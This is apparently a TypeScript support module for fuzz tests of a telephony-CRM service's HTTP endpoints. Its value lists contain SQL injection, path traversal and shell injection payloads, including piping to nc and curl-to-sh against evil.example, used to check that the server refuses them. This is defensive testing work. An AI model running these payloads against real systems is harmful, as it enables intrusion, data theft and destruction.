// The shared ground of the hostile-input files (hostile-*.test.ts): the world they run against,
// HTTP helpers, the generators of good and hostile input, and each endpoint's contract.
//
// Hostile input at every public endpoint, as properties (fast-check) over real HTTP: random and
// hostile values (huge and empty strings, Unicode with lone surrogates, RTL and NUL, SQL and shell
// metacharacters, repeated, missing and unknown parameters, wrong types, path traversal, bad
// percent-encoding), zero-byte, non-audio and oversized uploads, malformed bodies and content types.
// Every answer is held to the endpoint's contract: never a 5xx; a bad request gets the precise 4xx
// with a message that names the problem and leaves the database exactly as it was; a good one
// succeeds and stores what it said. At the end every stored row passes its invariants and the
// recordings directory holds exactly the stored recordings.
//
// Every request comes from a source address of its own (X-Forwarded-For), so the throttle of
// unknown clientIds per source never answers in place of the endpoint.
import { HOSTILE_RECORDINGS_DIR } from "./env";
import { randomBytes } from "node:crypto";
import { readdir, rm, stat } from "node:fs/promises";
import path from "node:path";
import busboy from "busboy";
import fc from "fast-check";
import { afterAll, beforeAll, expect } from "vitest";
import { createAsteriskSim, type AsteriskSim } from "@/e2e/sim/asterisk";
import { createRetailCrmSim, DEMO, seedDemo, type RetailCrmSim } from "@/e2e/sim/retailcrm";
import { serveRoutes } from "@/e2e/setup/route-server";
import { createTestAccount, mapExtensions } from "@/e2e/setup/factories";
import * as accountRoute from "@/app/account/route";
import * as activityRoute from "@/app/api/crm/activity/route";
import * as configRoute from "@/app/api/crm/config/route";
import * as makeCallRoute from "@/app/api/crm/make-call/route";
import * as registerRoute from "@/app/api/crm/register/route";
import * as userStatusRoute from "@/app/api/crm/user-status/route";
import * as eventRoute from "@/app/api/event/route";
import * as managerRoute from "@/app/api/manager/route";
import * as eventShRoute from "@/app/data/event.sh/route";
import * as recordingRoute from "@/app/recordings/[id]/[sig]/route";
import { connectAccount } from "@/lib/accounts";
import { PARAMS_MAX_BYTES } from "@/lib/http/params";

import { closeAmiSessions } from "@/lib/asterisk/ami/pool";
import { encryptSecret } from "@/lib/crypto/secrets";
import { db, dbPool } from "@/lib/db/client";
import { owedRequestsById } from "@/lib/delivery";
import { env } from "@/lib/env";

import { mapStatus } from "@/lib/telephony/hangup-status";
import { NASTY_STRINGS } from "@/e2e/fixtures/nasty-strings";

export const MAX_BYTES = 64 * 1024;
// Before anything reads the configuration: small uploads limit, a recordings directory of our own.
export const RECORDINGS_DIR = HOSTILE_RECORDINGS_DIR;

export const MARKETPLACE_SECRET = process.env.MARKETPLACE_SECRET!;
export const ami = { username: "crm", secret: "s3cret", read: "call", write: "originate" };

export let crm: RetailCrmSim;
export let crm2: RetailCrmSim;
/** The CRM of the account the activity callbacks switch on and off. */
export let switchedCrm: RetailCrmSim;
export let pbx: AsteriskSim;
export let app: Awaited<ReturnType<typeof serveRoutes>>;
/** The dialplan's and click-to-call's account (extensions 101 → user 3, 102 → user 4). */
export let main: { id: string; clientId: string };
/** The account the activity callbacks switch on and off. */
export let switched: { id: string; clientId: string; crmUrl: string; moduleCode: string };
/** The account whose managers' statuses change; its CRM users are 1 to STATUS_USERS. */
export let statuses: { id: string; clientId: string };
export const STATUS_USERS = 20;

// ---------------------------------------------------------------------------------------------
// HTTP
// ---------------------------------------------------------------------------------------------

export let sourceSeq = 0;
export function freshSource(): string {
  sourceSeq += 1;
  return `10.${(sourceSeq >> 16) & 255}.${(sourceSeq >> 8) & 255}.${sourceSeq & 255}`;
}

export interface Reply {
  status: number;
  headers: Headers;
  body: Buffer;
  text: string;
}

export async function send(
  url: string,
  init: { method?: "GET" | "POST"; body?: Uint8Array | string; headers?: Record<string, string> } = {},
): Promise<Reply> {
  const response = await fetch(url.startsWith("http") ? url : app.url + url, {
    method: init.method ?? "GET",
    body: typeof init.body === "string" || init.body === undefined ? init.body : new Uint8Array(init.body),
    headers: { "x-forwarded-for": freshSource(), ...init.headers },
    redirect: "manual",
  });
  const body = Buffer.from(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, body, text: body.toString("utf8") };
}

export function jsonOf(reply: Reply): unknown {
  try {
    return JSON.parse(reply.text);
  } catch {
    return reply.text;
  }
}

export type Pairs = ReadonlyArray<readonly [string, string]>;
export type Params = Record<string, string>;

/** What the server reads from a string: UTF-8 on the wire, so a lone surrogate arrives as U+FFFD. */
export const wire = (value: string) => Buffer.from(value, "utf8").toString("utf8");
/** A multipart field's value as the form parser gives it: UTF-8 decoded, which drops a leading BOM. */
export const wireMultipart = (value: string) => wire(value).replace(/^\ufeff/, "");

/** A multipart/form-data body built by hand, so every byte of a value reaches the server as generated. */
export function multipartBody(
  fields: Pairs,
  file?: { field: string; filename: string; bytes: Uint8Array },
): { body: Buffer; contentType: string } {
  const boundary = `----hostile${randomBytes(12).toString("hex")}`;
  // As browsers escape names and file names in Content-Disposition.
  const escape = (s: string) => s.replace(/"/g, "%22").replace(/\r/g, "%0D").replace(/\n/g, "%0A");
  const parts: Buffer[] = [];
  for (const [name, value] of fields) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${escape(name)}"\r\n\r\n${value}\r\n`,
        "utf8",
      ),
    );
  }
  if (file) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${escape(file.field)}"; filename="${escape(file.filename)}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
        "utf8",
      ),
      Buffer.from(file.bytes),
      Buffer.from("\r\n"),
    );
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(parts), contentType: `multipart/form-data; boundary=${boundary}` };
}

/**
 * How the parameters travel: the query of a GET or a POST, a form body (urlencoded in any spelling
 * of its media type, or multipart), half and half, or the query with a body of a type forms are
 * never read from (which must be ignored).
 */
export const URLENCODED_TYPES = [
  "application/x-www-form-urlencoded",
  "application/x-www-form-urlencoded; charset=UTF-8",
  "Application/X-WWW-Form-URLEncoded",
  "application/x-www-form-urlencoded;charset=koi8-r",
];
export const IGNORED_BODY_TYPES = [
  "application/json",
  "text/plain",
  "application/xml",
  "application/octet-stream",
  "x-www-form-urlencoded-but-not",
  "",
];

export type Transport =
  | { kind: "get" }
  | { kind: "post-query" }
  | { kind: "urlencoded"; contentType: string }
  | { kind: "multipart" }
  | { kind: "split"; at: number }
  | { kind: "ignored-body"; contentType: string };

export const transportArb: fc.Arbitrary<Transport> = fc.oneof(
  fc.constant<Transport>({ kind: "get" }),
  fc.constant<Transport>({ kind: "post-query" }),
  fc.constantFrom(...URLENCODED_TYPES).map((contentType): Transport => ({ kind: "urlencoded", contentType })),
  fc.constant<Transport>({ kind: "multipart" }),
  fc.nat(12).map((at): Transport => ({ kind: "split", at })),
  fc.constantFrom(...IGNORED_BODY_TYPES).map((contentType): Transport => ({ kind: "ignored-body", contentType })),
);

export const MAX_QUERY = 8000;

export interface Encoded {
  url: string;
  init: { method: "GET" | "POST"; body?: Uint8Array | string; headers: Record<string, string> };
  /** The parameters the endpoint must see: the query's, then the form body's over them, a repeated name with its last value. */
  params: Params;
  /** Bytes of the form body the endpoint reads (0 when there is none, or one of a type it ignores). */
  formBytes: number;
}

export function lastWins(pairs: Iterable<readonly [string, string]>): Params {
  const params: Params = {};
  for (const [key, value] of pairs)
    Object.defineProperty(params, key, { value, enumerable: true, configurable: true, writable: true });
  return params;
}

export function encode(pathname: string, pairs: Pairs, transport: Transport, rawQuery = ""): Encoded {
  const queryOf = (list: Pairs) =>
    [new URLSearchParams(list.map(([k, v]) => [k, v])).toString(), rawQuery].filter(Boolean).join("&");
  const split = transport.kind === "split" ? Math.min(transport.at, pairs.length) : 0;
  // A query the HTTP server would refuse as too long (431) travels in the body instead.
  const queryPart =
    transport.kind === "split"
      ? pairs.slice(0, split)
      : transport.kind === "urlencoded" || transport.kind === "multipart"
        ? []
        : pairs;
  const kind = queryOf(queryPart).length > MAX_QUERY ? "urlencoded" : transport.kind;
  const inQuery =
    kind === "get" || kind === "post-query" || kind === "ignored-body"
      ? pairs
      : kind === "split"
        ? pairs.slice(0, split)
        : [];
  const inBody = kind === "urlencoded" || kind === "multipart" ? pairs : kind === "split" ? pairs.slice(split) : [];
  const query = queryOf(inQuery);
  const url = `${pathname}${query ? `?${query}` : ""}`;
  const fromQuery = [...new URL(url, "http://x").searchParams];
  if (kind === "get") return { url, init: { method: "GET", headers: {} }, params: lastWins(fromQuery), formBytes: 0 };
  if (kind === "post-query")
    return { url, init: { method: "POST", headers: {} }, params: lastWins(fromQuery), formBytes: 0 };
  if (kind === "ignored-body") {
    const body = JSON.stringify(Object.fromEntries(pairs.map(([k]) => [k, "ignored"])));
    const headers: Record<string, string> =
      transport.kind === "ignored-body" && transport.contentType ? { "content-type": transport.contentType } : {};
    return {
      url,
      init: { method: "POST", body: Buffer.from(body), headers },
      params: lastWins(fromQuery),
      formBytes: 0,
    };
  }
  if (kind === "multipart") {
    const { body, contentType } = multipartBody(inBody);
    return {
      url,
      init: { method: "POST", body, headers: { "content-type": contentType } },
      params: lastWins([...fromQuery, ...inBody.map(([k, v]) => [k, wireMultipart(v)] as const)]),
      formBytes: body.length,
    };
  }
  // urlencoded, and the body half of split
  const body = new URLSearchParams(inBody.map(([k, v]) => [k, v])).toString();
  const contentType = transport.kind === "urlencoded" ? transport.contentType : "application/x-www-form-urlencoded";
  return {
    url,
    init: { method: "POST", body, headers: { "content-type": contentType } },
    params: lastWins([...fromQuery, ...new URLSearchParams(body)]),
    formBytes: Buffer.byteLength(body),
  };
}

// ---------------------------------------------------------------------------------------------
// The database: nothing changes for a refused request, and every row is sound
// ---------------------------------------------------------------------------------------------

export interface Snapshot {
  calls: number;
  events: number;
  deliveries: number;
  recordings: number;
  accounts: string;
  users: string;
}

export async function snapshot(): Promise<Snapshot> {
  const [row] = await db().$queryRaw<Snapshot[]>`
    SELECT (SELECT count(*) FROM calls)::int AS calls,
           (SELECT count(*) FROM call_events)::int AS events,
           (SELECT count(*) FROM deliveries)::int AS deliveries,
           (SELECT count(*) FROM recordings)::int AS recordings,
           (SELECT md5(coalesce(string_agg(concat_ws(':', id, "crmUrl", "clientId", "apiKeyEnc", "active", "freeze"), '|' ORDER BY id), '')) FROM accounts) AS accounts,
           (SELECT md5(coalesce(string_agg(concat_ws(':', "accountId", "crmUserId", status, extension), '|' ORDER BY id), '')) FROM crm_users) AS users`;
  return row!;
}

export const PHONE_CHARS = /^[0-9+()\-. *#a-zA-Z:@_]*$/;
export const UNPRINTABLE = /\p{C}/u;
export const UNIQUEID = /^[A-Za-z0-9._:-]{1,150}$/;
export const EXTENSION = /^\d{1,10}$/;
export const UPLOAD_RESULTS = ["answered", "busy", "failed", "no answer", "not allowed", "unknown"];
export const HANGUP_STATUSES = ["answered", "busy", "cancel", "failed", "no answered"];
export const STORAGE_KEY = /^[A-Za-z0-9_-]{32}\.(?:wav|mp3|ogg)$/;
export const INT4_MAX = 2_147_483_647;

export function isRealDateTime(value: string): boolean {
  const match = /^(\d{4})-(\d{2})-(\d{2})[ T](\d{2}):(\d{2}):(\d{2})$/.exec(value);
  if (!match) return false;
  const [year, month, day, hour, minute, second] = match.slice(1).map(Number) as [
    number,
    number,
    number,
    number,
    number,
    number,
  ];
  const date = new Date(Date.UTC(year, month - 1, day, hour, minute, second));
  return (
    year >= 1970 &&
    date.toISOString().slice(0, 19) === `${match[1]}-${match[2]}-${match[3]}T${match[4]}:${match[5]}:${match[6]}`
  );
}

export function isRecordingUrl(value: string): boolean {
  if (!/^(https?|ftp):\/\/\S+$/i.test(value) || UNPRINTABLE.test(value)) return false;
  try {
    new URL(value);
    return true;
  } catch {
    return false;
  }
}

export function unprintableStrings(value: unknown, at = "$"): string[] {
  if (typeof value === "string") return UNPRINTABLE.test(value) ? [at] : [];
  if (Array.isArray(value)) return value.flatMap((v, i) => unprintableStrings(v, `${at}[${i}]`));
  if (value && typeof value === "object")
    return Object.entries(value).flatMap(([k, v]) => unprintableStrings(v, `${at}.${k}`));
  return [];
}

export const isPhone = (v: unknown) =>
  typeof v === "string" && v.length > 0 && v.length <= 64 && v === v.trim() && PHONE_CHARS.test(v);

/** Every stored row of every (test) account against the invariants the journal, the worker and the CRM rely on. */
export async function expectSoundRows(): Promise<void> {
  const [accounts, users, calls, events, deliveries, recordings] = await Promise.all([
    db().account.findMany(),
    db().crmUser.findMany(),
    db().call.findMany(),
    db().callEvent.findMany(),
    db().delivery.findMany({ include: { call: true } }),
    db().recording.findMany(),
  ]);
  const problems: string[] = [];
  const bad = (what: string, row: unknown) => problems.push(`${what}: ${JSON.stringify(row)}`);

  for (const a of accounts) {
    if (!/^[0-9a-f]{64}$/.test(a.clientId)) bad("account clientId", a);
    let host = "";
    try {
      host = new URL(a.crmUrl).hostname;
    } catch {
      bad("account crmUrl is not a URL", a);
    }
    if (
      !/^https?:\/\/[^/]+\/$/.test(a.crmUrl) ||
      (!host.startsWith("[") && host.split(".").some((label) => label === ""))
    )
      bad("account crmUrl", a);
  }
  for (const u of users) {
    if (u.crmUserId < 0 || u.crmUserId > INT4_MAX) bad("crm user id", u);
    if (u.extension !== null && !EXTENSION.test(u.extension)) bad("crm user extension", u);
    if (u.status !== null && !["free", "busy", "dinner", "break"].includes(u.status)) bad("crm user status", u);
  }
  const callByKey = new Map(calls.map((c) => [`${c.accountId}/${c.uniqueid}`, c]));
  for (const c of calls) {
    if (!UNIQUEID.test(c.uniqueid)) bad("call uniqueid", c);
    if (c.direction === null) bad("call without direction", c);
    if (c.phone !== null && !isPhone(c.phone)) bad("call phone", c);
    if (c.extension !== null && !EXTENSION.test(c.extension)) bad("call extension", c);
    if (c.result !== null && !UPLOAD_RESULTS.includes(c.result)) bad("call result", c);
    if (c.startedAt !== null && (Number.isNaN(c.startedAt.getTime()) || c.startedAt.getUTCFullYear() < 1970))
      bad("call startedAt", c);
    for (const n of [c.waitSeconds, c.talkSeconds])
      if (n !== null && (!Number.isInteger(n) || n < 0 || n > 9_999_999)) bad("call seconds", c);
    if (c.result === "failed" && c.uniqueid.startsWith("crm-") && !c.failureReason)
      bad("failed click without a reason", c);
  }
  const recordingById = new Map(recordings.map((r) => [r.id, r]));
  for (const e of events) {
    if (!UNIQUEID.test(e.uniqueid)) bad("event uniqueid", e);
    const payload = e.payload as Record<string, unknown>;
    if (unprintableStrings(payload).length)
      bad(`event payload has unprintable text at ${unprintableStrings(payload).join(", ")}`, e);
    if (e.type === "UPLOAD") {
      const recording = recordingById.get(Number(payload.recordingId));
      if (
        !recording ||
        recording.accountId !== e.accountId ||
        recording.uniqueid !== e.uniqueid ||
        recording.sizeBytes !== payload.sizeBytes
      )
        bad("upload event without its recording", e);
      continue;
    }
    if (payload.type !== e.type.toLowerCase() || payload.uniqueid !== e.uniqueid)
      bad("event payload does not match its row", e);
    if (!isPhone(payload.phone)) bad("event phone", e);
    if (!callByKey.has(`${e.accountId}/${e.uniqueid}`)) bad("event without its call", e);
    if (payload.date !== undefined && !isRealDateTime(String(payload.date))) bad("event date", e);
  }
  // The bodies as the delivery workers would send them now.
  const bodies = new Map<number, unknown>();
  for (const a of accounts) {
    const ids = deliveries.filter((d) => d.accountId === a.id).map((d) => d.id);
    for (const owed of await owedRequestsById(dbPool(), ids, a.clientId))
      bodies.set(
        owed.id,
        owed.kind === "MISSED_TASK"
          ? owed.missed
          : owed.kind === "NEW_CUSTOMER"
            ? owed.caller
            : owed.kind === "CUSTOMER_NOTE"
              ? owed.note
              : owed.kind === "TASK_COMPLETE"
                ? owed.back
                : owed.kind === "TASK_COMMENT"
                  ? owed.comment
                  : owed.body,
      );
  }
  for (const d of deliveries) {
    const p = bodies.get(d.id) as Record<string, unknown> | undefined;
    if (!d.call || d.call.accountId !== d.accountId || !p) {
      bad("delivery without a call of its account", d);
      continue;
    }
    if (unprintableStrings(p).length) bad("delivery body has unprintable text", d);
    if (d.kind === "CALL_EVENT") {
      if (
        p.callExternalId !== d.call.uniqueid ||
        !["in", "out", "hangup"].includes(String(p.type)) ||
        !isPhone(p.phone)
      )
        bad("call event delivery", d);
      if (!Array.isArray(p.codes) || !p.codes.every((code) => typeof code === "string" && EXTENSION.test(code)))
        bad("call event codes", d);
      if (p.type === "hangup" ? !HANGUP_STATUSES.includes(String(p.hangupStatus)) : p.hangupStatus !== undefined)
        bad("call event hangupStatus", d);
    } else if (d.kind === "CALLS_UPLOAD") {
      if (p.externalId !== d.call.uniqueid || !["in", "out"].includes(String(p.type)) || !isPhone(p.phone))
        bad("calls upload delivery", d);
      if (
        typeof p.date !== "string" ||
        !/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/.test(p.date) ||
        !isRealDateTime(p.date)
      )
        bad("calls upload date", d);
      if (!UPLOAD_RESULTS.includes(String(p.result))) bad("calls upload result", d);
      for (const n of [p.duration, p.durationWaiting])
        if (!Number.isInteger(n) || (n as number) < 0) bad("calls upload seconds", d);
      if (p.code !== undefined && !EXTENSION.test(String(p.code))) bad("calls upload code", d);
      if (p.recordUrl !== undefined && !isRecordingUrl(String(p.recordUrl))) bad("calls upload recordUrl", d);
    }
  }
  const files = await recordingFiles();
  for (const r of recordings) {
    if (!STORAGE_KEY.test(r.storageKey) || !["audio/wav", "audio/mpeg", "audio/ogg"].includes(r.contentType))
      bad("recording key or type", r);
    if (r.sizeBytes < 1 || r.sizeBytes > MAX_BYTES) bad("recording size", r);
    if (files.get(r.storageKey) !== r.sizeBytes) bad("recording file missing or of another size", r);
    if (!UNIQUEID.test(r.uniqueid)) bad("recording uniqueid", r);
  }
  const keys = new Set(recordings.map((r) => r.storageKey));
  for (const name of files.keys())
    if (!keys.has(name)) bad("a file in the recordings directory that no recording owns", name);
  expect(problems).toEqual([]);
}

/** Every file under the recordings directory, by relative path (a stored one is "<2 chars>/<key>"), with its size. */
export async function recordingFiles(): Promise<Map<string, number>> {
  const found = new Map<string, number>();
  const entries = await readdir(RECORDINGS_DIR, { recursive: true, withFileTypes: true }).catch(() => []);
  for (const entry of entries) {
    if (!entry.isFile()) continue;
    const full = path.join(entry.parentPath, entry.name);
    const relative = path.relative(RECORDINGS_DIR, full);
    const stored = relative === path.join(entry.name.slice(0, 2), entry.name) && STORAGE_KEY.test(entry.name);
    found.set(stored ? entry.name : relative, (await stat(full)).size);
  }
  return found;
}

// ---------------------------------------------------------------------------------------------
// Values
// ---------------------------------------------------------------------------------------------

export const SQL = [
  "' OR '1'='1",
  "1; DROP TABLE calls; --",
  "\"; DELETE FROM call_events WHERE ''='",
  '1\' UNION SELECT "clientId" FROM accounts--',
  "%' --",
  "1)) OR pg_sleep(5)--",
];
export const SHELL = [
  "$(reboot)",
  "`reboot`",
  "; rm -rf / #",
  "| nc evil.example 1234",
  "&& curl evil.example | sh",
  "${IFS}cat${IFS}/etc/passwd",
  "\n/bin/sh\n",
  "'\"$(id)\"'",
];
export const TRAVERSAL = [
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "/etc/passwd\u0000.wav",
  "....//....//etc/passwd",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "/dev/zero",
  "CON",
  "recordings/../../.env",
];
export const ENCODING = ["%", "%z", "%zz", "%ff%fe", "%00", "%C0%AF", "%ED%A0%80", "+", "&", "=", "?", "#", "%25"];
export const WRONG_TYPES = [
  "-1",
  "1.5",
  "1e309",
  "NaN",
  "Infinity",
  "0x1F",
  "１２３",
  "٣",
  "true",
  "null",
  "[]",
  "{}",
  "[object Object]",
  "undefined",
  "9".repeat(20),
];
export const UNICODE = [
  "\ud800",
  "\udfff",
  "a\ud800b",
  "\u202e101",
  "\u0000",
  "\u0007",
  "\u001b[31m",
  "\u2028",
  "\ufeff101",
  "１０１",
];
export const HUGE = ["9".repeat(5000), "x".repeat(3000), "Ж".repeat(2000), "😀".repeat(1000), "%".repeat(3000)];

export const hostile: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      ...NASTY_STRINGS,
      ...SQL,
      ...SHELL,
      ...TRAVERSAL,
      ...ENCODING,
      ...WRONG_TYPES,
      ...UNICODE,
    ),
  },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 24 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 80 }) },
  { weight: 1, arbitrary: fc.constantFrom(...HUGE) },
);

export const digits = (min: number, max: number) =>
  fc.string({ unit: fc.constantFrom(..."0123456789"), minLength: min, maxLength: max });
export const padded = (arb: fc.Arbitrary<string>) =>
  fc.tuple(fc.constantFrom("", " ", "  "), arb, fc.constantFrom("", " ")).map(([a, v, b]) => a + v + b);

/** Numbers as the dialplan sends CALLERID(num) and as the CRM shows them. */
export const dialplanPhone = padded(
  fc.oneof(
    digits(2, 15).map((d) => `+${d}`),
    digits(1, 20),
    fc.constantFrom(
      "+7 (900) 123-45-67",
      "8 (912) 555-00-11",
      "anonymous",
      "Unknown",
      "alice@pbx.example",
      "*97",
      "#31#79001234567",
      "sip:101@10.0.0.1:5060",
      "9".repeat(64),
    ),
  ),
);
export const extension = digits(1, 10);
export const dateTime = fc
  .tuple(
    fc.date({ min: new Date("1970-01-01T00:00:00Z"), max: new Date("2100-12-31T23:59:59Z"), noInvalidDate: true }),
    fc.constantFrom(" ", "T"),
  )
  .map(([d, sep]) => d.toISOString().slice(0, 19).replace("T", sep));
export const dialStatus = fc.constantFrom(
  "ANSWER",
  "ANSWERED",
  "answer",
  "BUSY",
  "CANCEL",
  "NO ANSWER",
  "NOANSWER",
  "no_answer",
  "FAILED",
  "CONGESTION",
  "CHANUNAVAIL",
  "DONTCALL",
  "TORTURE",
  "",
  "Статус",
  "x".repeat(32),
);
export const recordUrl = fc.oneof(
  fc.webUrl({ validSchemes: ["http", "https", "ftp"] }).filter((u) => u.length <= 2048 && isRecordingUrl(u)),
  fc.constant("https://user:pw@pbx.example/записи/1.wav"),
);
export const seconds = digits(1, 7);

/** Values just inside and just outside each parameter's limits. */
export const EDGES: Record<string, string[]> = {
  uniqueid: ["1".repeat(150), "1".repeat(151), "a b", " 1717171717.1 ", "1717171717.1/..", "-", "."],
  phone: ["1".repeat(64), "1".repeat(65), " ", "+7\t900", "+7 900", "7900\n1234567", "79001234567\r\n"],
  code: ["1".repeat(10), "1".repeat(11), "101,102", "101 102", ",,,", "101,", " ", "1".repeat(500), "1,".repeat(251)],
  status: ["A".repeat(32), "A".repeat(33), " busy ", "NO\u00a0ANSWER"],
  direct: ["in", "out", "IN", "incoming", " in", ""],
  date: [
    "1970-01-01 00:00:00",
    "1969-12-31 23:59:59",
    "2024-02-29 12:00:00",
    "2023-02-29 12:00:00",
    "2026-12-31 23:59:60",
    "2026-00-10 10:00:00",
    "9999-12-31 23:59:59",
    "2026-01-01  10:00:00",
    "2026-1-1 1:1:1",
  ],
  hold: ["0", "9999999", "10000000", " 7 ", "-0", "+5", "07"],
  duration: ["0", "9999999", "10000000", "1.0", "1,5"],
  path: [
    "http://x",
    "ftp://a/b",
    "https://",
    "http://[",
    "https://pbx/a b.wav",
    "javascript:alert(1)",
    "file:///etc/passwd",
    `https://pbx/${"a".repeat(2040)}`,
  ],
  clientId: ["f".repeat(64), "F".repeat(64), "f".repeat(63), "f".repeat(128), "f".repeat(129), " "],
  type: ["IN", "in ", "ring", "Hangup"],
};
export const edge = (key: string) => fc.constantFrom(...(EDGES[key] ?? [""]));

export const JUNK_KEYS = [
  "foo",
  "PHONE",
  "ClientId",
  "code[]",
  "phone[]",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "",
  " ",
  "a".repeat(300),
  "uniqueid\u0000",
  "тип",
];

export type Mutation =
  | { kind: "set" | "repeat"; key: string; value: string }
  | { kind: "drop"; key: string }
  | { kind: "junk"; key: string; value: string };

/** One change of a good request: a parameter set to a hostile or edge value, repeated, dropped, or an unknown one added. */
export function mutationArb(keys: readonly string[]): fc.Arbitrary<Mutation> {
  const value = (key: string) => fc.oneof({ weight: 3, arbitrary: hostile }, { weight: 2, arbitrary: edge(key) });
  return fc.oneof(
    {
      weight: 5,
      arbitrary: fc
        .constantFrom(...keys)
        .chain((key) => value(key).map((v): Mutation => ({ kind: "set", key, value: v }))),
    },
    {
      weight: 2,
      arbitrary: fc
        .constantFrom(...keys)
        .chain((key) => value(key).map((v): Mutation => ({ kind: "repeat", key, value: v }))),
    },
    { weight: 2, arbitrary: fc.constantFrom(...keys).map((key): Mutation => ({ kind: "drop", key })) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...JUNK_KEYS), hostile)
        .map(([key, v]): Mutation => ({ kind: "junk", key, value: v })),
    },
  );
}

export function mutate(pairs: Pairs, mutations: readonly Mutation[]): Pairs {
  let out = [...pairs];
  for (const m of mutations) {
    if (m.kind === "drop") out = out.filter(([k]) => k !== m.key);
    else if (m.kind === "set") {
      const at = out.findIndex(([k]) => k === m.key);
      out = out.filter(([k]) => k !== m.key);
      out.splice(at < 0 ? out.length : at, 0, [m.key, m.value]);
    } else out.push([m.key, m.value]);
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// The contracts
// ---------------------------------------------------------------------------------------------

export type Expected = { ok: true } | { ok: false; status: number; error: string | RegExp };
export type Refusal = Extract<Expected, { ok: false }>;
export const refuse = (status: number, error: string | RegExp): Refusal => ({ ok: false, status, error });
export const OK: Expected = { ok: true };

export function expectRefusal(reply: Reply, expected: Refusal, context: unknown) {
  const body = jsonOf(reply);
  expect({ status: reply.status, body }, JSON.stringify(context)).toEqual({
    status: expected.status,
    body: {
      success: false,
      errorMsg: typeof expected.error === "string" ? expected.error : expect.stringMatching(expected.error),
    },
  });
}

export const trimmed = (v: string | undefined) => v?.trim();
/** String lengths as the validation counts them: in code points. */
export const len = (v: string) => [...v].length;
export const has = (p: Params, key: string) => Object.prototype.hasOwnProperty.call(p, key);
export const get = (p: Params, key: string) => (has(p, key) ? p[key] : undefined);

/** /api/event's parameters as the guide gives them (2.2.2): empty ones count as absent, DATE stands for date. */
export function eventParams(raw: Params): Params {
  const params: Params = {};
  for (const [key, value] of Object.entries(raw))
    if (value !== "")
      Object.defineProperty(params, key === "DATE" ? "date" : key, {
        value,
        enumerable: true,
        configurable: true,
        writable: true,
      });
  if (get(raw, "date")) params.date = raw.date!;
  return params;
}

export const codesOf = (code: string | undefined) => [
  ...new Set(
    (code ?? "")
      .split(",")
      .map((c) => c.trim())
      .filter(Boolean),
  ),
];

/** The first of clientId, type and uniqueid that /api/event refuses, with its message: without them there is no event. */
export function requiredEventError(p: Params): string | null {
  const clientId = get(p, "clientId");
  if (clientId === undefined) return "parameter clientId is required";
  if (len(clientId) > 128) return "parameter clientId is too long";
  if (!["in", "out", "hangup", "upload"].includes(get(p, "type") ?? ""))
    return "parameter type must be one of in, out, hangup, upload";
  const uniqueid = trimmed(get(p, "uniqueid"));
  if (!uniqueid) return "parameter uniqueid is required";
  if (len(uniqueid) > 150) return "parameter uniqueid is too long";
  if (!/^[A-Za-z0-9._:-]+$/.test(uniqueid))
    return "parameter uniqueid must look like an Asterisk UNIQUEID (e.g. 1717171717.42)";
  return null;
}

export const OPTIONAL_EVENT_FIELDS = ["phone", "code", "status", "direct", "date", "hold", "duration", "path"] as const;

/** Why /api/event cannot use an optional parameter as sent, or null. */
export function optionalEventError(name: (typeof OPTIONAL_EVENT_FIELDS)[number], raw: string): string | null {
  const value = raw.trim();
  switch (name) {
    case "phone":
      if (len(value) > 64) return "parameter phone is too long";
      return PHONE_CHARS.test(value) ? null : "parameter phone has characters a phone number cannot have";
    case "code":
      if (len(value) > 500) return "parameter code is too long";
      return /^[0-9,\s]*$/.test(value) && codesOf(value).every((c) => EXTENSION.test(c))
        ? null
        : "parameter code must be extensions (1 to 10 digits), comma-separated";
    case "status":
      if (len(value) > 32) return "parameter status is too long";
      return UNPRINTABLE.test(value) ? "parameter status has unprintable characters" : null;
    case "direct":
      return raw === "in" || raw === "out" ? null : "parameter direct must be in or out";
    case "date":
      if (!/^\d{4}-\d{2}-\d{2}[ T]\d{2}:\d{2}:\d{2}$/.test(value)) return "parameter date must be YYYY-MM-DD HH:MM:SS";
      return isRealDateTime(value)
        ? null
        : "parameter date is not a real date and time (YYYY-MM-DD HH:MM:SS, from 1970)";
    case "hold":
    case "duration":
      return /^\d{1,7}$/.test(value) ? null : `parameter ${name} must be a whole number of seconds`;
    case "path":
      if (len(value) > 2048) return "parameter path is too long";
      return value === "" || isRecordingUrl(value) ? null : "parameter path must be an http, https or ftp URL";
  }
}

/** What of a bad value the service keeps: a phone's allowed characters, the real extensions of a code list. */
export const CLEANED: Partial<Record<(typeof OPTIONAL_EVENT_FIELDS)[number], (raw: string) => string>> = {
  phone: (raw) =>
    raw
      .replace(/[^0-9+()\-. *#a-zA-Z:@_]/g, "")
      .replace(/ +/g, " ")
      .trim()
      .slice(0, 64),
  code: (raw) =>
    codesOf(raw)
      .filter((c) => EXTENSION.test(c))
      .join(","),
};

export interface EventOutcome {
  expected: Expected;
  /** The parameters as stored: bad optional ones cleaned or left out. */
  params: Params;
  /** What the reply's `warnings` say, in order. */
  warnings: string[];
  /** calls."inputWarnings" the event adds ("field:action"). */
  keys: string[];
}

/**
 * /api/event's contract: clientId, type and uniqueid must be right (400), the clientId known
 * (401), and in, out and hangup need a phone (400). Every other parameter that is wrong is
 * cleaned or left out and said so, and the event stored: it must reach the CRM.
 */
export function eventContract(raw: Params): EventOutcome {
  const p = eventParams(raw);
  const refused = (expected: Refusal): EventOutcome => ({ expected, params: p, warnings: [], keys: [] });
  const problem = requiredEventError(p);
  if (problem) return refused(refuse(400, problem));
  if (p.clientId !== main.clientId) return refused(refuse(401, "unknown clientId"));
  const type = p.type!;
  const params: Params = { clientId: p.clientId!, type, uniqueid: p.uniqueid! };
